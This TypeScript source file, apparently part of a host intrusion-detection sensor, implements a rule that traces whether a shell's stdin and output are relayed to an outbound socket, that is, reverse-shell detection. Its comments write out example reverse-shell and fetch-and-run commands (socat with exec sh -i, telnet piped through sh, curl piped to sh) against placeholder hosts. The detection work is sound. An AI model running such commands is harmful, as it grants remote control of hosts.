/**
 * The relay graph: does a shell's stream reach an outbound socket through pipes, FIFOs,
 * socketpairs or a pty? Processes and endpoints form a bipartite graph; a process holds
 * endpoints (holdings.ts) and an endpoint's far end is held by other processes: the same pipe
 * or FIFO opened the other way, a unix socket's peer, a pty's master for its slave.
 *
 * The proof that the shell's stream is what reaches the socket, not just some socket held
 * somewhere on the way:
 * - direction: from the shell's stdin, each hop goes to a process holding the far end for
 *   writing (it feeds the shell); from its stdout or stderr, to one holding it for reading
 *   (it consumes the shell's output); an intermediate (the `cat F` of a mkfifo chain) is
 *   crossed only from what it reads to what it writes, or back;
 * - both ways meet at one socket: whoever feeds the shell's stdin and whoever reads its output
 *   hold the same outbound socket (`curl … | sh` feeds a shell but reads nothing back), or two
 *   sockets to one remote host, one per direction (`telnet H P1 | sh | telnet H P2`);
 * - the socket is outbound: the kernel saw it connect (an SSH session's pty master sits with
 *   an accepted socket, tmux and screen hold pty masters and no socket at all), or it existed
 *   as observation began, or no connect record names it, and the TCP table of its network
 *   namespace shows no listener on its local port (host/tcp-table.ts, namespace-tables.ts).
 *
 * No time window and no hop count (docs/design.md §9: both are hints an attacker steps
 * around by waiting or adding a `cat`). A shell stays a candidate as long as it lives; a chain
 * is followed as far as a budget of processes examined per evaluation allows, and a look cut
 * at that budget is counted as incomplete (SENSOR-001), never a silent no. A shell evicted
 * from the bounded candidate table is counted as abandoned (SENSOR-001 too).
 *
 * What a window used to stand for, the remote-access agent that holds one long-lived
 * connection and runs an interactive shell for a job, has exactly a relay's structure: the
 * connection feeds the shell and reads it back. Nothing in the process tree separates it from
 * `socat TCP:H:P SYSTEM:'sleep 600; exec sh -i'`, so it is named in the configuration
 * (`rules.relay_agents`: executable and, where present, systemd unit, with a reason), and every
 * verdict it suppresses is counted under that reason. Agents that run their jobs as `sh -c`
 * or script files are no candidates at all: such a shell reads no commands from its stdin.
 */
import type { ExecEvent, OutboundEvent, ConnectEvent, TaskContext } from "../../sensor/events.js";
import type { ProcessInfo, ProcessView, RuleContext, RuleState } from "../../engine/rule.js";
import type { ExistingTcpSocket, HostView } from "../../host/host-view.js";
import { parseProcessKey, processKey } from "../../process/process-view.js";
import { OutboundRegistry, outboundSocketOf, type OutboundSocket } from "../sockets/outbound-registry.js";
import { InterpreterContents, identifyProgram, readsCommandsFromStdin, type IdentifiedBy, type InterpreterFamily } from "../stdio/interpreters.js";
import { NamespaceTcpTables } from "./namespace-tables.js";
import { holdingsNow, ptyMasterKey, ptySlaveKey, socketKey, stdioHolding, type Access, type EndpointKey, type Holding } from "./holdings.js";

/**
 * A relay program that holds a connection and runs interactive shells for it by design (a
 * remote-access or job agent): its verdicts are suppressed and counted under `reason`.
 */
export interface RelayAgentAllowEntry {
  /** The program holding the socket, as a finding names it (`sockeye.relay.program.executable`: the path it was run by). */
  executable: string;
  /** The systemd unit it runs in ("runner.service"), when the entry should match only there. */
  unit?: string;
  /** Why this program may relay a shell; the suppression is counted under it. */
  reason: string;
}

export interface RelayGraphOptions {
  /** Processes whose open files one evaluation may look at: a chain is followed by what it costs, not by hops. */
  maxExamined?: number;
  /** Outbound sockets remembered (least recently connected forgotten first). */
  maxSockets?: number;
  /** Shells waiting for their pipeline at once (past it, the oldest is abandoned: SENSOR-001). */
  maxPending?: number;
  /** Processes indexed by the endpoints they started with on fds 0-2 (oldest dropped first). */
  maxIndexed?: number;
  /** How long (event time) a process stays indexed before its liveness is checked (its exit may have been lost). */
  indexedMaxAgeMs?: number;
  /** Relay programs allowed to hold a shell's connection (remote-access and job agents). */
  agents?: readonly RelayAgentAllowEntry[];
}

/** A socket the relay may hold, with its connector's parent (where the relay sits in the tree). */
export interface RelaySocket extends OutboundSocket {
  ppid: number;
}

/** One process on the way from the shell to the socket, and the endpoint it was reached by. */
export interface ChainLink {
  pid: number;
  name: string;
  executable: string;
  /** The endpoint through which the stream reached this process, and the fd it holds it on. */
  via: { endpoint: EndpointKey; fd: number; access: Access };
}

export interface RelayVerdict {
  shell: ExecEvent;
  interpreter: InterpreterFamily;
  /** Which evidence named the shell's interpreter. */
  identifiedBy: IdentifiedBy;
  socket: OutboundSocket;
  /** From the shell's stdin towards the socket holder (who feeds the shell). */
  input: ChainLink[];
  /** From the shell's stdout or stderr towards the socket holder (who reads the shell). */
  output: ChainLink[];
  /** The fds of the shell whose stream reaches the socket. */
  shellFds: number[];
  /** When the shell's output leaves by another connection than its input came in by. */
  outputSocket?: OutboundSocket;
  /** The allowlist entry that names the relay program: the verdict is suppressed under its reason. */
  allowedAgent?: RelayAgentAllowEntry;
}

interface Pending {
  exec: ExecEvent;
  interpreter: InterpreterFamily;
  identifiedBy: IdentifiedBy;
  /** The shell, its parent and its ancestors at exec: who may have started its relay. */
  family: Set<number>;
  /** When (event time) to look once more after an event concerned it without a verdict. */
  recheckAtMs?: number;
  /** Its last evaluation had a host look cut short (the worker's wait): judged again when the answer comes. */
  awaitingLook?: boolean;
}

const DEFAULTS = {
  maxExamined: 256, maxSockets: 16_384, maxPending: 4096, maxIndexed: 32_768, indexedMaxAgeMs: 3_600_000, agents: [] as readonly RelayAgentAllowEntry[],
};

interface Node {
  pid: number;
  startNs: number;
}

/** Processes an index walk (pendingNear) may visit per event: in memory, no /proc read. */
const NEAR_BUDGET = 512;
/** A candidate an event concerned without a verdict is looked at once more this much later (event time). */
const RECHECK_AFTER_MS = 1000;
const NO_KEYS: ReadonlySet<string> = new Set();
const NO_PIDS: ReadonlySet<number> = new Set();
/** Candidates checked for liveness when the table is full, oldest first (each check is one /proc look). */
const ROOM_LOOKS = 16;
/** How many ancestors of an exec are checked for a candidate shell that spawned it. */
const DESCENT_CHECKED = 4;

/**
 * Network namespaces whose TCP tables one evaluation may read (namespace-tables.ts): a
 * holder's, the shell's and the sensor's own when all three differ. Each read costs the host's
 * whole TCP hash table (~11 ms on a 24 GiB host), so a chain through processes of many
 * namespaces is cut here and counted incomplete rather than costing a read per namespace.
 */
const NETNS_TABLES = 3;

/** Indexed processes past their age checked for liveness per event (each check is one /proc look). */
const INDEX_CHECKS_PER_EVENT = 2;

/** Shared "no verdict": read only. */
const NO_VERDICTS: RelayVerdict[] = [];
Object.freeze(NO_VERDICTS);

export class RelayGraph {
  private readonly opts: Required<RelayGraphOptions>;
  /** Who connected which socket, for as long as the count bound keeps it: a relay may wait any time before its shell. */
  private readonly sockets: OutboundRegistry<RelaySocket>;
  /** endpoint key → processes that started with it on fds 0-2 (process key → node) */
  private readonly stdioHolders = new Map<EndpointKey, Map<string, Node>>();
  /** process key → endpoint keys it is indexed under and when, in exec order */
  private readonly indexedUnder = new Map<string, { keys: EndpointKey[]; timeMs: number }>();
  private readonly pending = new Map<string, Pending>();
  /** Outbound sockets that existed as observation began (inode → socket). */
  private readonly existing = new Map<number, OutboundSocket>();
  /** Event time of the first event: when observation began. */
  private observedSinceMs: number | undefined;
  /**
   * The TCP sockets that exist as the rule is prepared (before its sensor attaches), read then
   * rather than at the first event: the host's TCP tables walk the kernel's whole TCP hash
   * table, ~11 ms on a 24 GiB host with three sockets, and at the first event that pause held
   * up the detections right behind it (the benchmark's idle detection latency).
   */
  private startupSockets: readonly ExistingTcpSocket[] | undefined;
  /** Looks at a process's open files that stopped at the host's fd budget. */
  private incomplete = 0;
  /** Copied, renamed or padded interpreters, recognised by content through the rule context's host. */
  private readonly contents = new InterpreterContents();
  private evicted = 0;
  private abandoned = 0;
  private expired = 0;

  constructor(options: RelayGraphOptions = {}) {
    this.opts = { ...DEFAULTS, ...options };
    this.sockets = new OutboundRegistry({ maxSockets: this.opts.maxSockets, maxAgeMs: Number.POSITIVE_INFINITY });
  }

  /** Before the first event: the TCP sockets that already exist (a later call changes nothing). */
  prepare(host: HostView): void {
    if (this.observedSinceMs === undefined) this.startupSockets = host.tcpSockets();
  }

  state(): RuleState {
    return {
      held: this.sockets.size + this.existing.size,
      pending: this.pending.size,
      indexed: this.indexedUnder.size,
      evicted: this.evicted + this.sockets.evicted,
      expired: this.expired + this.sockets.expired,
      incomplete: this.incomplete + this.contents.incompleteLooks,
      abandoned: this.abandoned,
    };
  }

  onOutbound(event: OutboundEvent | ConnectEvent, ctx: RuleContext): RelayVerdict[] {
    const socket = outboundSocketOf(event);
    if (socket === undefined) return [];
    this.observe(event.timeMs, ctx);
    this.sockets.remember({ ...socket, ppid: event.task.ppid }, event.timeMs);
    // The shells this connect may complete: those the connector or its parent started (a
    // relay, a pipeline's `nc`), and those its own stdio leads to (it may sit at the end of a
    // chain of intermediates).
    const near = this.pendingNear(processKey(event.task));
    return this.reevaluate(event.timeMs, ctx, (p, pk) => near.has(pk) || p.family.has(event.task.pid) || p.family.has(event.task.ppid));
  }

  onExec(event: ExecEvent, ctx: RuleContext): RelayVerdict[] {
    this.observe(event.timeMs, ctx);
    const pk = processKey(event.task);
    this.unindex(pk);
    // A plain loop, and arrays only for an exec that has something to index: every exec of the
    // host comes through here.
    let keys: EndpointKey[] | undefined;
    const stdio = event.stdio;
    if (stdio !== null) {
      for (let fd = 0; fd < stdio.length; fd++) {
        const h = stdioHolding(fd, stdio[fd]!);
        if (h === undefined) continue;
        let holders = this.stdioHolders.get(h.key);
        if (holders === undefined) this.stdioHolders.set(h.key, (holders = new Map<string, Node>()));
        holders.set(pk, { pid: event.task.pid, startNs: event.task.startNs });
        (keys ??= []).push(h.key);
      }
    }
    if (keys !== undefined) {
      this.indexedUnder.set(pk, { keys, timeMs: event.timeMs });
      if (this.indexedUnder.size > this.opts.maxIndexed) {
        this.unindex(this.indexedUnder.keys().next().value!);
        this.evicted++;
      }
    }

    // Pipeline members start in any order: a sibling's exec, or one with a relayable stdio
    // (an intermediate `cat` of a chain), may complete a chain. Not every child of a shell: an
    // interactive shell runs commands all its life.
    const near = keys === undefined ? NO_KEYS : this.pendingNear(pk);
    // A command a candidate shell runs inherits its stdio and so is "near" it, yet adds
    // nothing to its chain: a shell fed commands through a pipe (`cat cmds | sh`) would be
    // looked at again for every command it runs.
    const spawnedBy = near.size === 0 ? NO_PIDS : new Set([event.task.ppid, ...ctx.processes.ancestors(event.task.ppid, DESCENT_CHECKED).map((a) => a.pid)]);
    const out = this.reevaluate(event.timeMs, ctx, (p, k) => p.exec.task.ppid === event.task.ppid || (near.has(k) && !spawnedBy.has(p.exec.task.pid)));
    const identity = this.candidate(event, ctx);
    if (identity === undefined) return out;
    // Not pid 1: every daemon's parent, so its connects would re-examine every pending shell.
    const family = new Set<number>([event.task.pid, event.task.ppid].filter((pid) => pid > 1));
    for (const a of ctx.processes.ancestors(event.task.ppid)) if (a.pid > 1) family.add(a.pid);
    const pending: Pending = { exec: event, ...identity, family };
    const verdict = this.evaluate(pending, ctx);
    if (verdict !== undefined) return [...out, verdict];
    if (this.pending.size >= this.opts.maxPending) this.makeRoom(ctx);
    this.pending.set(pk, pending);
    return out;
  }

  /**
   * The pending shells whose last look was cut short, judged again now that the host answered
   * (Rule.reconsider). Not every pending shell: late answers come in floods, and pending shells
   * (every interactive shell) live long.
   */
  reconsider(nowMs: number, ctx: RuleContext): RelayVerdict[] {
    return this.reevaluate(nowMs, ctx, (p) => p.awaitingLook === true);
  }

  onExit(task: TaskContext, timeMs?: number, ctx?: RuleContext): void {
    if (timeMs !== undefined && ctx !== undefined) this.observe(timeMs, ctx);
    const pk = processKey(task);
    this.pending.delete(pk);
    this.unindex(pk);
  }

  /**
   * An interpreter reading its commands from stdin, whose stdin and stdout or stderr are
   * pipes, FIFOs, unix sockets or a terminal: what a relay can drive. A shell with an inet
   * socket on stdin is TRC-101's. A program no name identifies has its content looked at only
   * when its arguments leave stdin as its input (no operand): `grep x` in a pipeline is not.
   */
  private candidate(event: ExecEvent, ctx: RuleContext): { interpreter: InterpreterFamily; identifiedBy: IdentifiedBy } | undefined {
    const stdio = event.stdio;
    if (stdio === null) return undefined;
    if (stdioHolding(0, stdio[0]) === undefined) return undefined;
    if (stdioHolding(1, stdio[1]) === undefined && stdioHolding(2, stdio[2]) === undefined) return undefined;
    const content = readsCommandsFromStdin("shell", event.args) ? this.contents.lookFor(event.task, ctx.host) : undefined;
    const identity = identifyProgram(event.filename, event.args, content);
    if (identity.family === undefined || identity.by === "none" || !readsCommandsFromStdin(identity.family, identity.args)) return undefined;
    return { interpreter: identity.family, identifiedBy: identity.by };
  }

  /**
   * Re-evaluates the candidates `which` picks, and those due for a second look. A pipeline's
   * last piece may fall into place after the event that announced it (a process opens its FIFO
   * after its exec, a forked subshell sets up a hop): a candidate an event concerned without a
   * verdict is looked at once more on the first event RECHECK_AFTER_MS later. Not a window: the
   * candidate stays, and any later related event looks again.
   */
  private reevaluate(nowMs: number, ctx: RuleContext, which: (p: Pending, pk: string) => boolean): RelayVerdict[] {
    if (this.pending.size === 0) return NO_VERDICTS;
    let out: RelayVerdict[] | undefined;
    for (const [pk, p] of this.pending) {
      const due = p.recheckAtMs !== undefined && nowMs >= p.recheckAtMs;
      if (!due && !which(p, pk)) continue;
      const verdict = this.evaluate(p, ctx);
      if (verdict === undefined) {
        p.recheckAtMs = due ? undefined : nowMs + RECHECK_AFTER_MS;
        continue;
      }
      (out ??= []).push(verdict);
      this.pending.delete(pk);
    }
    return out ?? NO_VERDICTS;
  }

  /**
   * The candidates reachable from process `start` through the stdio index alone (exec-time
   * pipes, FIFOs, unix sockets and ptys, terminals left out: one joins a whole session), up to
   * NEAR_BUDGET processes: no /proc read, so an exec or connect anywhere on a chain finds the
   * shell at its other end, however many hops away.
   */
  private pendingNear(start: string): ReadonlySet<string> {
    const found = new Set<string>();
    if (this.pending.size === 0) return found;
    const seen = new Set<string>([start]);
    const queue = [start];
    for (let i = 0; i < queue.length && seen.size < NEAR_BUDGET; i++) {
      for (const key of this.indexedUnder.get(queue[i]!)?.keys ?? []) {
        if (key.startsWith("tty:")) continue;
        for (const far of farEnds(key, 0).concat(key)) {
          for (const hk of this.stdioHolders.get(far)?.keys() ?? []) {
            if (seen.has(hk)) continue;
            seen.add(hk);
            if (this.pending.has(hk)) found.add(hk);
            queue.push(hk);
          }
        }
      }
    }
    return found;
  }

  /**
   * The candidate table is full: shells whose exit was lost go first (the table, else /proc,
   * says they are gone, among the oldest ROOM_LOOKS); only when those are alive is the oldest abandoned, which is
   * coverage lost and counted so (SENSOR-001), not a silent drop.
   */
  private makeRoom(ctx: RuleContext): void {
    // The oldest few only: with the table full of live decoys, every new candidate would
    // otherwise cost a look at each of thousands.
    let looked = 0;
    for (const [pk, p] of this.pending) {
      if (looked++ >= ROOM_LOOKS) break;
      const t = p.exec.task;
      const info = ctx.processes.get(t.pid, t.startNs);
      if (info?.exited === true || gone(ctx, t.pid, t.startNs)) {
        this.pending.delete(pk);
        this.expired++;
      }
    }
    if (this.pending.size < this.opts.maxPending) return;
    this.pending.delete(this.pending.keys().next().value!);
    this.evicted++;
    this.abandoned++;
  }

  private evaluate(p: Pending, ctx: RuleContext): RelayVerdict | undefined {
    const { host } = ctx;
    // One look per process per evaluation: what it holds may change between events. The
    // looks are the evaluation's cost: past maxExamined processes the chain is not followed
    // further, and the evaluation is counted as incomplete.
    const cache = new Map<string, Holding[] | undefined>();
    let cut = false;
    const holdingsOf = (n: Node) => {
      const k = processKey(n);
      if (!cache.has(k)) {
        if (cache.size >= this.opts.maxExamined) {
          cut = true;
          return undefined;
        }
        const now = holdingsNow(host, n.pid, n.startNs);
        if (now?.incomplete === true) {
          this.incomplete++;
          awaiting = true;
        }
        cache.set(k, now?.holdings);
      }
      return cache.get(k);
    };
    let awaiting = false;
    const tables = new NamespaceTcpTables(host, NETNS_TABLES);
    const verdict = this.evaluateWith(p, ctx, holdingsOf, tables);
    p.awaitingLook = awaiting;
    if (verdict === undefined && (cut || tables.cut)) this.incomplete++;
    return verdict === undefined ? undefined : this.allowAgent(verdict, ctx);
  }

  /**
   * The verdict, marked when the program holding the socket is an allowed agent: its
   * executable is the entry's and, when the entry names a unit, its cgroup is in that unit.
   */
  private allowAgent(verdict: RelayVerdict, ctx: RuleContext): RelayVerdict {
    if (this.opts.agents.length === 0) return verdict;
    const holder = verdict.input[verdict.input.length - 1];
    if (holder === undefined) return verdict;
    const info = ctx.processes.get(holder.pid);
    let unit: string | undefined | null = null;
    const unitOf = () => {
      if (unit === null) unit = info === undefined ? undefined : serviceUnit(ctx.host.cgroupPath(info.cgroupId, holder.pid));
      return unit;
    };
    const entry = this.opts.agents.find((a) => a.executable === holder.executable && (a.unit === undefined || a.unit === unitOf()));
    return entry === undefined ? verdict : { ...verdict, allowedAgent: entry };
  }

  private evaluateWith(p: Pending, ctx: RuleContext, holdingsOf: (n: Node) => Holding[] | undefined, tables: NamespaceTcpTables): RelayVerdict | undefined {
    const { processes } = ctx;
    const shell = p.exec.task;
    // A socket on the way that no connect record names: connected by a route the sensor does
    // not see (io_uring's IORING_OP_CONNECT), or forgotten at the socket bound. The TCP tables
    // say whether it is outbound (no listener on its local port): those of the holder's
    // network namespace, the shell's, then the sensor's own (namespace-tables.ts), each read
    // at most once per evaluation and only when a chain reaches such a socket. The same look
    // covers sockets that existed before the sensor started in another namespace than the
    // sensor's (prepare() reads the sensor's own only): a pending shell whose chain reaches one
    // finds it here, named connect_unseen (the tables do not tell "before" from "unseen").
    const unseen = new Map<number, OutboundSocket | undefined>();
    const socketOf = (ino: number, holder?: Node): OutboundSocket | undefined => {
      const known = this.socket(ino);
      if (known !== undefined) return known;
      if (unseen.has(ino)) return unseen.get(ino);
      const t = tables.find(ino, holder === undefined ? [shell.pid] : [holder.pid, shell.pid]);
      const socket: OutboundSocket | undefined = t === undefined || t.origin !== "outbound" ? undefined : {
        ino: t.ino, pid: 0, startNs: 0, comm: "", timeMs: p.exec.timeMs, family: t.family, local: t.local, remote: t.remote, connectUnseen: true as const,
      };
      unseen.set(ino, socket);
      return socket;
    };
    const shellHoldings = holdingsOf(shell);
    if (shellHoldings === undefined) return undefined;
    // What the shell holds on 0-2 now, /proc's view (it names a pty slave as such), else the
    // exec record's, and a unix socket's peer from the exec record (only it knows peers).
    const stdio = p.exec.stdio!;
    const ends = (fds: number[]) =>
      fds.flatMap((fd) => {
        const now = shellHoldings.find((h) => h.fd === fd);
        const atExec = stdioHolding(fd, stdio[fd]!);
        const held = now ?? atExec;
        if (held === undefined) return [];
        const access: Access = fd === 0 ? "read" : "write";
        const far = farEnds(held.key, atExec?.key === held.key && stdio[fd]!.kind === "unix" ? stdio[fd]!.peerIno : 0);
        return far.map((key) => ({ fd, key, access }));
      });
    const neighbours = this.neighbours(shell, processes);

    const input = this.search(ends([0]), "write", shell, neighbours, holdingsOf, socketOf, processes);
    if (input.size === 0) return undefined;
    const output = this.search(ends([1, 2]), "read", shell, neighbours, holdingsOf, socketOf, processes);
    const verdict = (inIno: number, outIno: number): RelayVerdict => {
      const inChain = input.get(inIno)!;
      const outChain = output.get(outIno)!;
      const shellFds = [0, ...[...outChain.fds].sort((a, b) => a - b)];
      const socket = socketOf(inIno)!;
      return {
        shell: p.exec, interpreter: p.interpreter, identifiedBy: p.identifiedBy, socket, input: inChain.links, output: outChain.links, shellFds,
        ...(outIno !== inIno ? { outputSocket: socketOf(outIno)! } : {}),
      };
    };
    for (const ino of input.keys()) if (output.has(ino)) return verdict(ino, ino);
    // A relay split over two connections, one per direction (`telnet H P1 | sh | telnet H P2`):
    // both reached from the shell and both to the same remote host. Two hosts are left out: a
    // downloaded script piped into a shell whose log is shipped elsewhere has that shape.
    for (const inIno of input.keys()) {
      const remote = socketOf(inIno)!.remote.address;
      for (const outIno of output.keys()) if (socketOf(outIno)!.remote.address === remote) return verdict(inIno, outIno);
    }
    return undefined;
  }

  /**
   * Breadth-first from the shell's ends: processes holding a far end with `want` access (the
   * writer of what the shell reads, the reader of what it writes), as far as the evaluation's
   * budget of looks goes (holdingsOf answers undefined past it). Returns, per outbound socket
   * reached, the first chain that reached it.
   */
  private search(
    start: { fd: number; key: EndpointKey; access: Access }[],
    want: "read" | "write",
    shell: Node,
    neighbours: Node[],
    holdingsOf: (n: Node) => Holding[] | undefined,
    socketOf: (ino: number, holder: Node) => OutboundSocket | undefined,
    processes: ProcessView,
  ): Map<number, { links: ChainLink[]; fds: Set<number> }> {
    const found = new Map<number, { links: ChainLink[]; fds: Set<number> }>();
    // One walk per shell end, so that every fd whose stream reaches a socket is named.
    for (const end of start) {
      const visited = new Set<string>([processKey(shell)]);
      let frontier = [{ keys: [end.key], links: [] as ChainLink[], shellFd: end.fd }];
      // Ends when no process is left to cross: each process is crossed once (visited), so the
      // walk is bounded by the processes the budget lets it look at.
      while (frontier.length > 0) {
        const next: typeof frontier = [];
        for (const f of frontier) {
          for (const key of f.keys) {
            for (const holder of this.holdersOf(key, neighbours)) {
              const hk = processKey(holder);
              if (visited.has(hk)) continue;
              const held = holdingsOf(holder);
              const via = held?.find((h) => h.key === key && (h.access === want || h.access === "both"));
              if (held === undefined || via === undefined) continue;
              visited.add(hk);
              const info = processes.get(holder.pid, holder.startNs);
              const links = [...f.links, link(holder, info, via)];
              const sockets = held.flatMap((h) => {
                const s = h.key.startsWith("sock:") ? socketOf(Number(h.key.slice(5)), holder) : undefined;
                return s !== undefined ? [s] : [];
              });
              for (const s of sockets) {
                const seen = found.get(s.ino);
                if (seen === undefined) found.set(s.ino, { links, fds: new Set([f.shellFd]) });
                else seen.fds.add(f.shellFd);
              }
              if (sockets.length > 0) continue;
              // An intermediate is crossed from what it reads to what it writes (output side), or
              // from what it writes back to what it reads (input side): the stream keeps its
              // direction, so the next hop holds the far end the opposite way again.
              const onwardAccess = want === "read" ? "write" : "read";
              const keys = held
                .filter((h) => h.key !== key && (h.access === onwardAccess || h.access === "both"))
                .flatMap((h) => farEnds(h.key, 0));
              if (keys.length > 0) next.push({ keys, links, shellFd: f.shellFd });
            }
          }
        }
        frontier = next;
      }
    }
    return found;
  }

  /** Who may hold `key`: processes that started with it on stdio, and the shell's neighbours. */
  private holdersOf(key: EndpointKey, neighbours: Node[]): Node[] {
    const indexed = this.stdioHolders.get(key);
    return indexed === undefined ? neighbours : [...indexed.values(), ...neighbours];
  }

  /**
   * Where a relay sits relative to the shell: an ancestor (ncat, socat, a script's subprocess),
   * or a process with a fresh outbound socket whose parent is the shell or an ancestor of it
   * (the `nc` of a pipeline is the shell's sibling).
   */
  private neighbours(shell: TaskContext, processes: ProcessView): Node[] {
    const ancestors = processes.ancestors(shell.pid);
    // Not pid 1 (every daemon's parent): a shell's relay is below its session, not any service.
    const family = new Set<number>([shell.pid, shell.ppid, ...ancestors.map((a) => a.pid)].filter((pid) => pid > 1));
    const out = new Map<string, Node>();
    for (const a of ancestors) if (!a.exited) out.set(processKey(a), { pid: a.pid, startNs: a.startNs });
    for (const s of this.sockets.values()) {
      if (s.pid !== shell.pid && (family.has(s.ppid) || family.has(s.pid))) {
        out.set(processKey(s), { pid: s.pid, startNs: s.startNs });
      }
    }
    return [...out.values()];
  }

  /**
   * The first event starts observation: the outbound sockets that exist now were connected
   * unseen, and are kept (within maxSockets) for any shell that may reach them later.
   */
  private observe(nowMs: number, ctx: RuleContext): void {
    if (this.observedSinceMs === undefined) {
      this.observedSinceMs = nowMs;
      const startup = this.startupSockets ?? [];
      this.startupSockets = undefined;
      for (const t of startup) {
        if (t.origin !== "outbound" || this.existing.size >= this.opts.maxSockets) continue;
        this.existing.set(t.ino, {
          ino: t.ino, pid: 0, startNs: 0, comm: "", timeMs: nowMs, family: t.family, local: t.local, remote: t.remote, beforeObservation: true,
        });
      }
    }
    this.expireIndexed(nowMs, ctx);
  }

  /**
   * Processes indexed longer than indexedMaxAgeMs are looked at: gone ones (their exit was
   * lost) are let go, live ones are indexed again from now (a FIFO chain's `cat` may wait
   * hours for its relay). At most a few per event, so the sweep's cost stays per event.
   */
  private expireIndexed(nowMs: number, ctx: RuleContext): void {
    for (let i = 0; i < INDEX_CHECKS_PER_EVENT; i++) {
      const oldest = this.indexedUnder.entries().next();
      if (oldest.done === true || nowMs - oldest.value[1].timeMs <= this.opts.indexedMaxAgeMs) return;
      const [pk, entry] = oldest.value;
      const { pid, startNs } = parseProcessKey(pk)!; // every key here is a processKey()
      this.indexedUnder.delete(pk);
      if (gone(ctx, pid, startNs)) {
        this.indexedUnder.set(pk, entry);
        this.unindex(pk);
        this.expired++;
      } else {
        this.indexedUnder.set(pk, { keys: entry.keys, timeMs: nowMs });
      }
    }
  }

  /** What the sensor saw connect, else what existed as observation began. */
  private socket(ino: number): OutboundSocket | undefined {
    return this.sockets.get(ino) ?? this.existing.get(ino);
  }

  private unindex(pk: string): void {
    for (const key of this.indexedUnder.get(pk)?.keys ?? []) {
      const holders = this.stdioHolders.get(key);
      holders?.delete(pk);
      if (holders?.size === 0) this.stdioHolders.delete(key);
    }
    this.indexedUnder.delete(pk);
  }
}

/** The keys of what sits at the other end of `key`: a pipe or FIFO is one object opened both
 * ways, a unix socket's far end is its peer, a pty slave's is its master and back. */
function farEnds(key: EndpointKey, peerIno: number): EndpointKey[] {
  if (key.startsWith("pts:")) return [ptyMasterKey(Number(key.slice(4)))];
  if (key.startsWith("ptm:")) return [ptySlaveKey(Number(key.slice(4)))];
  if (key.startsWith("sock:")) return peerIno !== 0 ? [socketKey(peerIno)] : [];
  if (key.startsWith("tty:")) return [];
  return [key];
}

/** The systemd unit a cgroup path is in: its innermost `*.service` or `*.scope` folder. */
export function serviceUnit(cgroupPath: string | undefined): string | undefined {
  if (cgroupPath === undefined) return undefined;
  const parts = cgroupPath.split("/");
  for (let i = parts.length - 1; i >= 0; i--) if (/\.(service|scope)$/.test(parts[i]!)) return parts[i];
  return undefined;
}

function link(holder: Node, info: ProcessInfo | undefined, via: Holding): ChainLink {
  return {
    pid: holder.pid,
    name: info?.name ?? "",
    executable: info?.executable ?? "",
    via: { endpoint: via.key, fd: via.fd, access: via.access },
  };
}

/**
 * The process `pid` started at `startNs` is gone (its pid free or another process's). Asked of
 * liveFacts (its stat and status, read here) rather than of an open-files look, which lists
 * every fd in the look worker: waking the worker (and keeping its heap) to learn that much
 * cost an idle daemon its memory.
 */
function gone(ctx: RuleContext, pid: number, startNs: number): boolean {
  return ctx.host.liveFacts(pid, startNs) === undefined;
}
